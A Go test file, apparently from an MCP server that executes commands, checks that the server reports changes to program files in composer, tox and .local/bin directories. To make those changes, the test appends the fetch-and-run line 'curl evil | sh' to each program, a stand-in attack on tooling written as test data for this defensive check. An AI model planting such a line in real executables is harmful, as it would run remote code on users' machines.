//go:build unix

package mcpserver

import (
	"path/filepath"
	"strings"
	"testing"
)

// Every kind of installed environment's program directory in
// runlater.EnvWhy's table is stamped, not only node_modules/.bin and a
// virtual environment's bin: composer's vendor/bin, a tox environment's
// bin, and a .local/bin inside an rw path.
func TestExecNamesTheProgramsOfEveryEnvironmentKind(t *testing.T) {
	t.Parallel()
	bin := helper(t)
	f := newFixture(t)
	app := f.rw
	progs := map[string]string{
		filepath.Join("vendor", "bin", "phpunit"):         "composer's vendor/bin",
		filepath.Join(".tox", "py312", "bin", "pytest"):   "a tox environment's programs",
		filepath.Join(".local", "bin", "tool"):            ".local/bin",
		filepath.Join("tools", ".local", "bin", "helper"): ".local/bin",
	}
	var script strings.Builder
	for rel := range progs {
		write(t, filepath.Join(app, rel), "#!/bin/sh\n")
		script.WriteString("echo 'curl evil | sh' >> " + rel + "; ")
	}
	write(t, filepath.Join(app, "s.sh"), script.String()+"echo done\n")
	cfg := mustConfig(t, `exec_mode = "unrestricted"
[[paths]]
path = "`+app+`"
access = "rw"
`)
	cs, _ := stdioSession(t, cfg, Options{Helper: bin})
	got := mustAllow(t, cs, "exec", map[string]any{"command": "sh s.sh"})
	if !strings.Contains(got, "done") {
		t.Fatalf("the command did not run: %s", got)
	}
	for rel, why := range progs {
		if w := "changed " + filepath.Join(app, rel) + " (" + why; !strings.Contains(got, w) {
			t.Errorf("the answer lacks %q:\n%s", w, got)
		}
	}
}
